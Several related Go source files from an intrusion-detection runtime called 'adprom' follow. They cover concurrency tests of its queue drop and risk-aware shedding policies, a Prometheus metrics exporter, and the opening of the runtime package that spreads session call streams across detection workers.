		// sink no longer stalls workers — delivery is async — so the stall
		// is injected on the worker path itself.)
		WithWorkerHook(faultinject.WorkerGate(gate)),
	)
	s := rt.Session("flood")
	dropped := false
	var sent int
	for pass := 0; pass < 100 && !dropped; pass++ {
		for _, c := range traces[0] {
			sent++
			if err := s.Observe(c); errors.Is(err, ErrDropped) {
				dropped = true
				break
			}
		}
	}
	close(gate)
	if !dropped {
		t.Fatalf("no call dropped after %d sends through a depth-1 queue", sent)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Dropped == 0 {
		t.Fatalf("Stats.Dropped = 0 after shedding; stats %v", st)
	}
	if st.Calls+st.Dropped < uint64(sent) {
		t.Fatalf("calls %d + dropped %d < sent %d", st.Calls, st.Dropped, sent)
	}
}

// TestObserveTraceReportsShedding covers the DropNewest truncation contract:
// a truncated replay returns the flushed history together with an error
// wrapping ErrDropped, so callers can tell it apart from a complete one.
func TestObserveTraceReportsShedding(t *testing.T) {
	p, traces := trainAppH(t)
	gate := make(chan struct{})
	rt := New(p,
		WithWorkers(1), WithQueueDepth(1), WithDropPolicy(DropNewest),
		WithWorkerHook(faultinject.WorkerGate(gate)),
	)
	s := rt.Session("truncated")
	// The worker is gated, so at most one call is consumed and at most one
	// sits in the queue: a full trace must shed.
	errc := make(chan error, 1)
	histc := make(chan []detect.Alert, 1)
	go func() {
		h, err := s.ObserveTrace(traces[0])
		histc <- h
		errc <- err
	}()
	// ObserveTrace's flush is a control op: it blocks until the gate opens.
	close(gate)
	err := <-errc
	<-histc
	if !errors.Is(err, ErrDropped) {
		t.Fatalf("truncated replay: err = %v, want ErrDropped wrapper", err)
	}
	if rt.Stats().Dropped == 0 {
		t.Fatal("no drops counted for a truncated replay")
	}
	// (Complete replays under the Block policy report a nil error; that path
	// is covered by TestSessionLifecycle.)
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestRuntimeCloseDrainsLateRegistrations locks in the Close/Session race
// fix: sessions registered while Close snapshots are either drained or
// refused, so the ActiveSessions gauge always returns to zero.
func TestRuntimeCloseDrainsLateRegistrations(t *testing.T) {
	p, traces := trainAppH(t)
	for round := 0; round < 8; round++ {
		rt := New(p, WithWorkers(2), WithQueueDepth(16))
		var wg sync.WaitGroup
		stop := make(chan struct{})
		for g := 0; g < 4; g++ {
			wg.Add(1)
			go func(g int) {
				defer wg.Done()
				for i := 0; ; i++ {
					select {
					case <-stop:
						return
					default:
					}
					s := rt.Session(fmt.Sprintf("r%d-g%d-s%d", round, g, i))
					if err := s.Observe(traces[0][0]); errors.Is(err, ErrClosed) {
						return
					}
				}
			}(g)
		}
		if err := rt.Close(); err != nil {
			t.Fatal(err)
		}
		close(stop)
		wg.Wait()
		if st := rt.Stats(); st.ActiveSessions != 0 {
			t.Fatalf("round %d: ActiveSessions = %d after Close (gauge leak); stats %v",
				round, st.ActiveSessions, st)
		}
		// A registration attempted after Close must be born closed.
		if err := rt.Session("late").Observe(traces[0][0]); !errors.Is(err, ErrClosed) {
			t.Fatalf("late session observe: %v", err)
		}
	}
}

func TestDropPolicyString(t *testing.T) {
	cases := []struct {
		p    DropPolicy
		want string
	}{
		{Block, "block"},
		{DropNewest, "drop-newest"},
		{ShedByRisk, "shed-by-risk"},
		{DropPolicy(7), "DropPolicy(7)"},
	}
	for _, c := range cases {
		if got := c.p.String(); got != c.want {
			t.Errorf("DropPolicy(%d).String() = %q, want %q", int(c.p), got, c.want)
		}
	}
}

func TestStatsStringAndAlertTotal(t *testing.T) {
	st := Stats{
		Calls:   100,
		Dropped: 3,
		Workers: 4,
	}
	st.Alerts[int(detect.FlagAnomalous)] = 2
	st.Alerts[int(detect.FlagDL)] = 5
	st.Alerts[int(detect.FlagOutOfContext)] = 1
	if got := st.AlertTotal(); got != 8 {
		t.Fatalf("AlertTotal = %d, want 8", got)
	}
	out := st.String()
	for _, want := range []string{
		"calls=100", "dropped=3", "alerts=8",
		"anomalous=2", "dl=5", "ooc=1",
		"panics=0", "restarts=0", "quarantined=0", "sink[dropped=0 panics=0]",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Stats.String() = %q: missing %q", out, want)
		}
	}
	var zero Stats
	if zero.AlertTotal() != 0 {
		t.Errorf("zero Stats.AlertTotal() = %d", zero.AlertTotal())
	}
}

func TestRuntimeBlockPolicyLosesNothing(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(2), WithQueueDepth(4))
	var sent uint64
	for i := 0; i < 8; i++ {
		s := rt.Session(fmt.Sprintf("s%d", i))
		for pass := 0; pass < 3; pass++ {
			for _, c := range traces[i%len(traces)] {
				if err := s.Observe(c); err != nil {
					t.Fatal(err)
				}
				sent++
			}
		}
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Dropped != 0 || st.Calls != sent {
		t.Fatalf("block policy: calls=%d dropped=%d, want %d/0", st.Calls, st.Dropped, sent)
	}
	if st.ActiveSessions != 0 || st.SessionsOpened != 8 {
		t.Fatalf("session churn: active=%d opened=%d", st.ActiveSessions, st.SessionsOpened)
	}
}

func TestSessionLifecycle(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(2))
	defer rt.Close()

	s := rt.Session("a")
	if rt.Session("a") != s {
		t.Fatal("Session(id) not stable")
	}
	if _, err := s.ObserveTrace(traces[0]); err != nil {
		t.Fatal(err)
	}
	alerts, err := s.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 0 {
		t.Fatalf("normal trace alerted: %+v", alerts)
	}
	if err := s.Observe(collector.Call{Label: "x"}); !errors.Is(err, ErrClosed) {
		t.Fatalf("observe on closed session: %v", err)
	}
	if _, err := s.Close(); !errors.Is(err, ErrClosed) {
		t.Fatalf("double close: %v", err)
	}
	// The id is free again and maps to a fresh session with a clean engine.
	s2 := rt.Session("a")
	if s2 == s {
		t.Fatal("closed session not evicted")
	}
	if _, err := s2.ObserveTrace(traces[0]); err != nil {
		t.Fatal(err)
	}
}

func TestRuntimeCloseRejectsLateTraffic(t *testing.T) {
	p, _ := trainAppH(t)
	rt := New(p, WithWorkers(1))
	s := rt.Session("a")
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatalf("second close: %v", err)
	}
	if err := s.Observe(collector.Call{Label: "x"}); !errors.Is(err, ErrClosed) {
		t.Fatalf("observe after runtime close: %v", err)
	}
	if err := rt.Session("b").Observe(collector.Call{Label: "x"}); !errors.Is(err, ErrClosed) {
		t.Fatalf("new session after close: %v", err)
	}
}

func alertsEquivalent(got, want []detect.Alert) error {
	if len(got) != len(want) {
		return fmt.Errorf("%d alerts, want %d", len(got), len(want))
	}
	for i := range got {
		g, w := got[i], want[i]
		if math.Abs(g.Score-w.Score) > 1e-9 || math.Abs(g.Threshold-w.Threshold) > 1e-9 {
			return fmt.Errorf("alert %d: score %v/%v, threshold %v/%v", i, g.Score, w.Score, g.Threshold, w.Threshold)
		}
		g.Score, g.Threshold, w.Score, w.Threshold = 0, 0, 0, 0
		if !reflect.DeepEqual(g, w) {
			return fmt.Errorf("alert %d: %+v != %+v", i, g, w)
		}
	}
	return nil
}
