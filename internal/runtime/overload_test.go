package runtime

// Overload suite: the faultinject burst generator drives the runtime past
// queue capacity under every drop policy (run under -race; `make race`
// does), proving the degradation contract — Block never loses a call,
// DropNewest accounts for every shed call exactly, and ShedByRisk never
// sheds a session that has already alerted — with goroutine-leak checks.

import (
	"errors"
	"fmt"
	stdruntime "runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/detect"
	"adprom/internal/faultinject"
	"adprom/internal/shed"
)

// neverOverload is the classifier for policies that must not reject: any
// error aborts the generator run and fails the test.
func neverOverload(err error, n int) (int, bool) { return 0, false }

// countRejections classifies drop/shed errors, extracting exact counts from
// BatchShedError for batch ops and charging the whole op otherwise.
func countRejections(err error, n int) (int, bool) {
	var bse *BatchShedError
	if errors.As(err, &bse) {
		return bse.Shed, true
	}
	if errors.Is(err, ErrDropped) { // ErrShed matches too
		return n, true
	}
	return 0, false
}

// TestOverloadBlockNeverDrops floods a tiny queue behind slowed workers
// under the Block policy: every producer must simply wait, so not one call
// is dropped or shed and every alert history stays bit-identical to the
// sequential Monitor baseline.
func TestOverloadBlockNeverDrops(t *testing.T) {
	before := stdruntime.NumGoroutine()
	p, traces := trainAppH(t)
	const sessions = 6
	streams := streamSet(traces, sessions)

	baseline := make([][]detect.Alert, sessions)
	for i, tr := range streams {
		baseline[i] = core.NewMonitor(p, nil).ObserveTrace(tr)
	}

	rt := New(p,
		WithWorkers(2), WithQueueDepth(4),
		WithWorkerHook(faultinject.WorkerLatency(20*time.Microsecond)))

	var wg sync.WaitGroup
	var sent atomic.Uint64
	errs := make([]error, sessions)
	histories := make([][]detect.Alert, sessions)
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(fmt.Sprintf("block-%02d", i))
			gen := faultinject.OverloadGen{Traces: []collector.Trace{streams[i]}}
			rep, err := gen.Run(s, neverOverload)
			if err != nil {
				errs[i] = err
				return
			}
			sent.Add(uint64(rep.Sent))
			if rep.Shed != 0 || rep.Admitted != rep.Sent {
				errs[i] = fmt.Errorf("block policy shed calls: %+v", rep)
				return
			}
			histories[i], errs[i] = s.Close()
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("session %d: %v", i, err)
		}
	}

	var wantAlerts int
	for i := range baseline {
		wantAlerts += len(baseline[i])
		if err := alertsEquivalent(histories[i], baseline[i]); err != nil {
			t.Errorf("session %d diverged from sequential baseline under overload: %v", i, err)
		}
	}
	if wantAlerts == 0 {
		t.Fatal("baseline raised no alerts; the equivalence check is vacuous")
	}

	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Dropped != 0 || st.Shed != 0 {
		t.Errorf("Block policy lost calls: dropped=%d shed=%d", st.Dropped, st.Shed)
	}
	if st.Calls != sent.Load() {
		t.Errorf("scored %d calls, offered %d", st.Calls, sent.Load())
	}
	checkGoroutines(t, before)
}

// TestOverloadDropNewestExactAccounting wedges the single worker and floods
// it with batches: whatever interleaving the race scheduler picks, the
// generator's per-error tally (exact batch counts via BatchShedError) must
// reconcile with Stats — every offered call is either scored or counted
// dropped, never silently lost.
func TestOverloadDropNewestExactAccounting(t *testing.T) {
	before := stdruntime.NumGoroutine()
	p, traces := trainAppH(t)
	gate := make(chan struct{})
	rt := New(p,
		WithWorkers(1), WithQueueDepth(8), WithDropPolicy(DropNewest),
		WithWorkerHook(faultinject.WorkerGate(gate)))

	s := rt.Session("flood")
	gen := faultinject.OverloadGen{
		Traces: []collector.Trace{traces[0]},
		Passes: 4,
		Batch:  5,
	}
	rep, err := gen.Run(s, countRejections)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Shed == 0 {
		t.Fatalf("no calls dropped past a wedged depth-8 queue: %+v", rep)
	}
	if rep.Admitted+rep.Shed != rep.Sent {
		t.Fatalf("accounting leak in the generator itself: %+v", rep)
	}

	close(gate)
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Dropped != uint64(rep.Shed) {
		t.Errorf("Stats.Dropped = %d, generator counted %d rejected calls", st.Dropped, rep.Shed)
	}
	if st.Calls != uint64(rep.Admitted) {
		t.Errorf("Stats.Calls = %d, generator counted %d admitted calls", st.Calls, rep.Admitted)
	}
	if st.QueueHighWater == 0 || st.QueueHighWater > 8 {
		t.Errorf("QueueHighWater = %d, want within (0, 8]", st.QueueHighWater)
	}
	checkGoroutines(t, before)
}

// TestObserveBatchPartialAdmission pins the exact partial-batch contract:
// with 5 of the 8-call budget already pending, an 8-call batch admits the
// 3-call prefix and reports BatchShedError{Shed: 5, Batch: 8}.
func TestObserveBatchPartialAdmission(t *testing.T) {
	p, traces := trainAppH(t)
	if len(traces[0]) < 8 {
		t.Fatalf("trace too short for the batch scenario: %d calls", len(traces[0]))
	}
	gate := make(chan struct{})
	rt := New(p,
		WithWorkers(1), WithQueueDepth(8), WithDropPolicy(DropNewest),
		WithWorkerHook(faultinject.WorkerGate(gate)))

	s := rt.Session("partial")
	if err := s.ObserveBatch(traces[0][:5]); err != nil {
		t.Fatalf("first batch within budget rejected: %v", err)
	}
	// Wait for the wedged worker to dequeue the first batch, emptying the
	// pending ledger deterministically.
	deadline := time.Now().Add(5 * time.Second)
	for rt.WorkerQueueDepths()[0] != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("worker never dequeued the first batch; depths %v", rt.WorkerQueueDepths())
		}
		time.Sleep(time.Millisecond)
	}
	if err := s.ObserveBatch(traces[0][:5]); err != nil {
		t.Fatalf("second batch within budget rejected: %v", err)
	}
	err := s.ObserveBatch(traces[0][:8])
	if !errors.Is(err, ErrDropped) {
		t.Fatalf("overflowing batch: err = %v, want ErrDropped wrapper", err)
	}
	var bse *BatchShedError
	if !errors.As(err, &bse) {
		t.Fatalf("overflowing batch error %T carries no BatchShedError", err)
	}
	if bse.Shed != 5 || bse.Batch != 8 {
		t.Fatalf("partial admission reported %d of %d shed, want 5 of 8", bse.Shed, bse.Batch)
	}

	close(gate)
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Dropped != 5 {
		t.Errorf("Stats.Dropped = %d, want exactly the 5 shed tail calls", st.Dropped)
	}
	if st.Calls != 13 {
		t.Errorf("Stats.Calls = %d, want the 13 admitted calls (5+5+3)", st.Calls)
	}
}

// TestOverloadShedByRiskProtectsAlertBearers is the acceptance test for
// risk-aware shedding: after a lossless warm-up in which every third session
// raises alerts, a sustained overload burst must shed only quiet sessions —
// zero shed calls on any alert-bearing session — while reporting a nonzero
// shed rate and a bounded estimated miss probability.
func TestOverloadShedByRiskProtectsAlertBearers(t *testing.T) {
	before := stdruntime.NumGoroutine()
	p, traces := trainAppH(t)
	const sessions = 12
	streams := streamSet(traces, sessions)

	var slow atomic.Bool
	rt := New(p,
		WithWorkers(2), WithQueueDepth(16),
		WithShedConfig(shed.Config{
			Seed: 42,
			// Hold alert memory beyond the whole run so "recent alert"
			// covers every post-warm-up window deterministically.
			AlertMemory: 1 << 30,
		}),
		WithDecisionLog(1<<14, 1),
		WithWorkerHook(func(int, string) {
			if slow.Load() {
				time.Sleep(300 * time.Microsecond)
			}
		}))

	// Warm-up: replay each stream in 4-call chunks, waiting for the queues
	// to drain between chunks, so occupancy never reaches the high watermark
	// and nothing is shed while the controller learns which sessions alert.
	waitDrained := func() {
		deadline := time.Now().Add(10 * time.Second)
		for rt.Stats().QueueDepth != 0 {
			if time.Now().After(deadline) {
				t.Fatalf("warm-up queue never drained; depths %v", rt.WorkerQueueDepths())
			}
			time.Sleep(100 * time.Microsecond)
		}
	}
	handles := make([]*Session, sessions)
	for i := 0; i < sessions; i++ {
		s := rt.Session(fmt.Sprintf("risk-%02d", i))
		handles[i] = s
		for lo := 0; lo < len(streams[i]); lo += 4 {
			hi := lo + 4
			if hi > len(streams[i]) {
				hi = len(streams[i])
			}
			if err := s.ObserveBatch(streams[i][lo:hi]); err != nil {
				t.Fatalf("warm-up session %d: %v", i, err)
			}
			waitDrained()
		}
	}
	if st := rt.Stats(); st.Shed != 0 {
		t.Fatalf("warm-up shed %d calls; the protection check needs a lossless baseline", st.Shed)
	}
	// The attacked sessions (every third) must carry a recent alert into the
	// burst, or the never-shed guarantee would be checked vacuously.
	for i := 2; i < sessions; i += 3 {
		alerts, err := handles[i].Flush()
		if err != nil {
			t.Fatalf("warm-up flush session %d: %v", i, err)
		}
		if len(alerts) == 0 {
			t.Fatalf("attacked session %d raised no warm-up alert; the guarantee check is vacuous", i)
		}
	}

	// Overload burst: slowed workers, every session flooding concurrently.
	slow.Store(true)
	var wg sync.WaitGroup
	errs := make([]error, sessions)
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			gen := faultinject.OverloadGen{
				Traces: []collector.Trace{streams[i]},
				Passes: 2,
				Batch:  3,
			}
			rep, err := gen.Run(handles[i], countRejections)
			if err != nil {
				errs[i] = err
				return
			}
			if i%3 == 2 && rep.Shed != 0 {
				errs[i] = fmt.Errorf("alert-bearing session saw %d rejections: %+v", rep.Shed, rep)
			}
		}(i)
	}
	wg.Wait()
	slow.Store(false)
	for i, err := range errs {
		if err != nil {
			t.Fatalf("session %d: %v", i, err)
		}
	}

	// The core guarantee: not one call of an alert-bearing session was shed.
	for i := 0; i < sessions; i++ {
		if i%3 != 2 {
			continue
		}
		if n := handles[i].ShedCalls(); n != 0 {
			t.Errorf("alert-bearing session %d had %d calls shed", i, n)
		}
	}
	for i := 0; i < sessions; i++ {
		if _, err := handles[i].Close(); err != nil {
			t.Fatalf("close session %d: %v", i, err)
		}
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}

	st := rt.Stats()
	if st.Shed == 0 {
		t.Fatal("overload burst shed nothing; the degradation path went unexercised")
	}
	if st.ShedRate <= 0 || st.ShedRate >= 1 {
		t.Errorf("ShedRate = %v, want within (0, 1)", st.ShedRate)
	}
	if st.EstimatedMissProb <= 0 || st.EstimatedMissProb >= 1 {
		t.Errorf("EstimatedMissProb = %v, want within (0, 1): shed mass is low-risk by construction", st.EstimatedMissProb)
	}
	ss := rt.ShedSnapshot()
	if ss.ShedDecisions == 0 || ss.ShedCalls != st.Shed {
		t.Errorf("shed snapshot %+v inconsistent with Stats.Shed=%d", ss, st.Shed)
	}
	if ss.RiskShed <= 0 || ss.RiskAdmitted <= 0 {
		t.Errorf("risk mass accounting incomplete: %+v", ss)
	}

	// Provenance: shed decisions must be visible with risk and occupancy.
	var shedDecisions int
	for _, d := range rt.Decisions(0) {
		if !d.Shed {
			continue
		}
		shedDecisions++
		if d.ShedCalls <= 0 || d.SessionShed == 0 {
			t.Fatalf("shed decision without counts: %+v", d)
		}
		if d.Risk < 0 || d.Risk >= 1 {
			t.Fatalf("shed decision risk %v outside the sheddable band [0, 1): %+v", d.Risk, d)
		}
		if d.Session == "" || d.UnixNanos == 0 {
			t.Fatalf("shed decision missing identity: %+v", d)
		}
	}
	if shedDecisions == 0 {
		t.Error("no shed decisions recorded in the provenance ring")
	}
	checkGoroutines(t, before)
}
