package runtime

import (
	"fmt"
	"io"

	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/metrics"
	"adprom/internal/obsv"
	"adprom/internal/shed"
)

// countersMetric maps every metrics.CountersSnapshot field to the Prometheus
// family it is exported under. The map is consulted by WritePrometheus's
// test via reflection: adding a counter field without extending this map —
// and the rendering below — fails CI instead of silently hiding the new
// counter from /metrics.
var countersMetric = map[string]string{
	"Calls":          "adprom_calls_total",
	"Dropped":        "adprom_dropped_total",
	"Shed":           "adprom_shed_calls_total",
	"QueueHighWater": "adprom_queue_high_water",
	"Alerts":         "adprom_alerts_total",
	"ChannelAlerts":  "adprom_channel_alerts_total",
	"LatencyNanos":   "adprom_observe_latency_seconds_sum",
	"ActiveSessions": "adprom_active_sessions",
	"SessionsOpened": "adprom_sessions_opened_total",
	"Panics":         "adprom_panics_total",
	"WorkerRestarts": "adprom_worker_restarts_total",
	"Quarantined":    "adprom_quarantined_sessions_total",
	"SinkDropped":    "adprom_sink_dropped_total",
	"SinkPanics":     "adprom_sink_panics_total",
	"Swaps":          "adprom_profile_swaps_total",
	"EnginesRetired": "adprom_engines_retired_total",
	"Observe":        "adprom_observe_latency_seconds",
	"Flush":          "adprom_flush_latency_seconds",
	"SinkDelivery":   "adprom_sink_delivery_seconds",
}

// WritePrometheus renders the runtime's counters, gauges, and latency
// histograms in the Prometheus text exposition format — the body of the
// introspection endpoint's /metrics.
func (rt *Runtime) WritePrometheus(w io.Writer) error {
	snap := rt.ctr.Snapshot()
	p := obsv.NewPromWriter(w)

	p.Counter(countersMetric["Calls"], "Calls scored by detection workers.", float64(snap.Calls))
	p.Counter(countersMetric["Dropped"], "Calls shed under queue pressure or after session failure.", float64(snap.Dropped))
	p.Counter(countersMetric["Shed"], "Calls rejected by the risk-aware admission controller.", float64(snap.Shed))
	p.Gauge(countersMetric["QueueHighWater"], "Lifetime maximum pending-call depth on any single worker queue.", float64(snap.QueueHighWater))
	p.Family(countersMetric["Alerts"], "counter", "Alerts raised, by flag.")
	for f := 0; f < metrics.NumFlags; f++ {
		p.Sample(countersMetric["Alerts"],
			[][2]string{{"flag", detect.Flag(f).String()}}, float64(snap.Alerts[f]))
	}
	p.Family(countersMetric["ChannelAlerts"], "counter", "Alert provenance by detection channel (one alert can count against several).")
	for ch := 0; ch < metrics.NumChannels; ch++ {
		p.Sample(countersMetric["ChannelAlerts"],
			[][2]string{{"channel", detect.ChannelNames[ch]}}, float64(snap.ChannelAlerts[ch]))
	}
	p.Gauge(countersMetric["ActiveSessions"], "Sessions currently open.", float64(snap.ActiveSessions))
	p.Counter(countersMetric["SessionsOpened"], "Sessions opened since start.", float64(snap.SessionsOpened))
	p.Counter(countersMetric["Panics"], "Panics recovered on detection workers.", float64(snap.Panics))
	p.Counter(countersMetric["WorkerRestarts"], "Supervised worker restarts.", float64(snap.WorkerRestarts))
	p.Counter(countersMetric["Quarantined"], "Sessions quarantined after a failure.", float64(snap.Quarantined))
	p.Counter(countersMetric["SinkDropped"], "Alert deliveries shed by the async sink dispatcher.", float64(snap.SinkDropped))
	p.Counter(countersMetric["SinkPanics"], "Panics recovered from the user's alert sink.", float64(snap.SinkPanics))
	p.Counter(countersMetric["Swaps"], "Profile hot-swaps published.", float64(snap.Swaps))
	p.Counter(countersMetric["EnginesRetired"], "Engines discarded for being a generation behind.", float64(snap.EnginesRetired))

	// The histograms carry LatencyNanos (= Observe.Sum) as their _sum series.
	p.Histogram(countersMetric["Observe"], "Per-call engine scoring latency.", snap.Observe)
	p.Histogram(countersMetric["Flush"], "Flush/close op processing latency.", snap.Flush)
	p.Histogram(countersMetric["SinkDelivery"], "Alert delivery duration at the user sink.", snap.SinkDelivery)

	p.Gauge("adprom_profile_generation", "Serving profile generation (1 until the first swap).", float64(rt.cur.Load().gen))
	p.Gauge("adprom_workers", "Detection worker count.", float64(rt.cfg.workers))
	p.Gauge("adprom_queue_capacity", "Per-worker ingest queue capacity.", float64(rt.cfg.queueDepth))
	depths := rt.WorkerQueueDepths()
	depth := 0
	p.Family("adprom_worker_queue_depth", "gauge", "Pending calls per worker ingest queue.")
	for i, d := range depths {
		depth += d
		p.Sample("adprom_worker_queue_depth", [][2]string{{"worker", itoa(i)}}, float64(d))
	}
	p.Gauge("adprom_queue_depth", "Calls waiting across all worker queues.", float64(depth))
	p.Counter("adprom_decisions_recorded_total", "Provenance decisions written into the ring.", float64(rt.rec.Recorded()))
	p.Counter("adprom_decisions_sampled_out_total", "Unflagged judgements passed over by the 1-in-N sampler.", float64(rt.rec.Skipped()))
	p.Counter("adprom_traces_stored_total", "Decision traces committed into the trace store (alerts plus sampled healthy traces).", float64(rt.traces.Stored()))
	p.Counter("adprom_traces_sampled_out_total", "Healthy decision traces passed over by the trace sampling gate.", float64(rt.traces.SampledOut()))

	// Risk-aware shedding gauges: rendered whether or not ShedByRisk is
	// active, so dashboards keyed on them never see the family disappear.
	var ss shed.Snapshot
	if rt.shed != nil {
		ss = rt.shed.Snapshot()
	}
	shedRate := 0.0
	if snap.Shed > 0 {
		shedRate = float64(snap.Shed) / float64(snap.Shed+snap.Calls)
	}
	p.Gauge("adprom_shed_rate", "Fraction of offered calls rejected by risk-aware admission.", shedRate)
	p.Gauge("adprom_shed_estimated_miss_probability", "Estimated fraction of alert evidence lost to shedding (shed risk mass over total).", ss.MissProbability)
	engaged := 0.0
	if ss.Engaged {
		engaged = 1
	}
	p.Gauge("adprom_shed_engaged", "Whether any worker's admission controller is currently shedding (1) or passing everything (0).", engaged)
	p.Counter("adprom_shed_decisions_total", "Admission decisions that rejected an op.", float64(ss.ShedDecisions))
	if err := p.Err(); err != nil {
		return err
	}
	// Process-level Go runtime health and build provenance ride on the same
	// scrape; rendered here (not per-tenant) so they appear exactly once.
	return obsv.WriteGoRuntimeProm(w, obsv.BuildInfo{ScorerDispatch: hmm.KernelName()})
}

// itoa is a tiny allocation-light strconv.Itoa for small worker indices.
func itoa(i int) string {
	if i >= 0 && i < 10 {
		return string([]byte{'0' + byte(i)})
	}
	return fmt.Sprintf("%d", i)
}
