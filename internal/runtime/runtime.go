// Package runtime multiplexes many concurrent per-session library-call
// streams onto a pool of detection workers sharing one immutable Profile —
// the serving layer that turns the paper's one-program Detection Engine into
// a system that can monitor heavy traffic from many clients at once.
//
// # Model
//
//   - A Runtime owns W workers. Each worker owns one bounded ingest queue
//     and runs detection for the sessions assigned to it.
//   - A Session is one monitored call stream (one program execution, one
//     connection, one tenant — whatever the caller keys it by). Sessions are
//     created on first use by Runtime.Session(id) and pinned to a worker by
//     hashing the id, so every session's calls are processed in FIFO order
//     with no per-call locking; different sessions proceed in parallel.
//   - Each session scores windows with a detect.Engine over the shared
//     read-only profile. Engines maintain the HMM forward variables
//     incrementally (hmm.StreamScorer) and are recycled through a sync.Pool
//     when sessions close, so steady-state session churn does not allocate.
//   - Ingest queues are bounded. Under pressure the configured DropPolicy
//     either applies backpressure (Block, the default — Observe waits for
//     queue space) or sheds the newest call (DropNewest, counted in Stats).
//   - Close flushes every open session (judging partial windows, like
//     Engine.Flush), waits for the workers to drain, and stops them.
//
// Atomic counters (calls, drops, alerts by flag, queue depth, per-call
// latency) are kept in a metrics.Counters and exposed as a Stats snapshot.
package runtime

import (
	"errors"
	"fmt"
	"hash/maphash"
	stdruntime "runtime"
	"sync"
	"time"

	"adprom/internal/collector"
	"adprom/internal/detect"
	"adprom/internal/metrics"
	"adprom/internal/profile"
)

// Errors returned by the ingest path.
var (
	// ErrClosed reports an Observe/Flush on a closed runtime or session.
	ErrClosed = errors.New("runtime: closed")
	// ErrDropped reports a call shed by the DropNewest policy.
	ErrDropped = errors.New("runtime: call dropped: queue full")
)

// DropPolicy selects the behaviour of a full ingest queue.
type DropPolicy int

const (
	// Block applies backpressure: Observe waits until the worker drains.
	Block DropPolicy = iota
	// DropNewest sheds the incoming call, counts it, and returns ErrDropped.
	DropNewest
)

func (p DropPolicy) String() string {
	switch p {
	case Block:
		return "block"
	case DropNewest:
		return "drop-newest"
	default:
		return fmt.Sprintf("DropPolicy(%d)", int(p))
	}
}

// AlertFunc receives every alert raised by any session, tagged with the
// session id. It is invoked on worker goroutines: implementations must be
// safe for concurrent use and should return quickly (hand off to a channel
// or async sink for slow delivery).
type AlertFunc func(session string, a detect.Alert)

type config struct {
	workers    int
	queueDepth int
	policy     DropPolicy
	sink       AlertFunc
	threshold  *float64
	windowLen  int
}

// Option configures a Runtime.
type Option func(*config)

// WithWorkers sets the number of detection workers (default GOMAXPROCS).
func WithWorkers(n int) Option {
	return func(c *config) {
		if n > 0 {
			c.workers = n
		}
	}
}

// WithQueueDepth bounds each worker's ingest queue (default 256).
func WithQueueDepth(d int) Option {
	return func(c *config) {
		if d > 0 {
			c.queueDepth = d
		}
	}
}

// WithDropPolicy selects backpressure (Block) or load shedding (DropNewest).
func WithDropPolicy(p DropPolicy) Option {
	return func(c *config) { c.policy = p }
}

// WithAlertFunc routes every session's alerts to fn.
func WithAlertFunc(fn AlertFunc) Option {
	return func(c *config) { c.sink = fn }
}

// WithThreshold overrides the profile's detection threshold for every
// session.
func WithThreshold(t float64) Option {
	return func(c *config) { c.threshold = &t }
}

// WithWindowLen overrides the profile's window length for every session.
func WithWindowLen(n int) Option {
	return func(c *config) {
		if n > 0 {
			c.windowLen = n
		}
	}
}

// Runtime is a concurrent multi-stream detection service over one shared
// profile. Create with New, feed with Session(...).Observe, stop with Close.
type Runtime struct {
	p    *profile.Profile
	cfg  config
	seed maphash.Seed

	queues []chan op
	wg     sync.WaitGroup

	mu       sync.RWMutex // guards sessions map and closed flag vs ingest
	sessions map[string]*Session
	closed   bool

	pool sync.Pool // *detect.Engine, all built over p
	ctr  metrics.Counters
}

type opKind int

const (
	opObserve opKind = iota
	opFlush          // judge partial window, reply with history, reset window
	opClose          // opFlush + recycle the engine
)

type op struct {
	s    *Session
	call collector.Call
	kind opKind
	done chan []detect.Alert
}

// Session is one monitored call stream. All its calls are scored in FIFO
// order on a single worker; the handle itself may be shared, but calls from
// multiple goroutines into one session interleave without ordering
// guarantees (use one producer per session for deterministic replay).
type Session struct {
	rt     *Runtime
	id     string
	worker int

	mu     sync.Mutex
	closed bool

	// engine and dead are owned by the worker goroutine: engine is created on
	// first op, dead is set once the close op has been processed.
	engine *detect.Engine
	dead   bool
}

// New builds a runtime over a trained profile. The profile is treated as
// immutable from this point on: do not retrain it while the runtime serves.
func New(p *profile.Profile, opts ...Option) *Runtime {
	cfg := config{
		workers:    stdruntime.GOMAXPROCS(0),
		queueDepth: 256,
	}
	for _, o := range opts {
		if o != nil {
			o(&cfg)
		}
	}
	rt := &Runtime{
		p:        p,
		cfg:      cfg,
		seed:     maphash.MakeSeed(),
		queues:   make([]chan op, cfg.workers),
		sessions: make(map[string]*Session),
	}
	rt.pool.New = func() any { return detect.NewEngine(p) }
	// Force the shared scorer into existence before any worker races to use
	// it (Profile.Scorer is once-guarded anyway; this keeps first-call
	// latency out of the serving path).
	p.Scorer()
	for i := range rt.queues {
		rt.queues[i] = make(chan op, cfg.queueDepth)
		rt.wg.Add(1)
		go rt.worker(rt.queues[i])
	}
	return rt
}

// Session returns the session registered under id, creating it if needed.
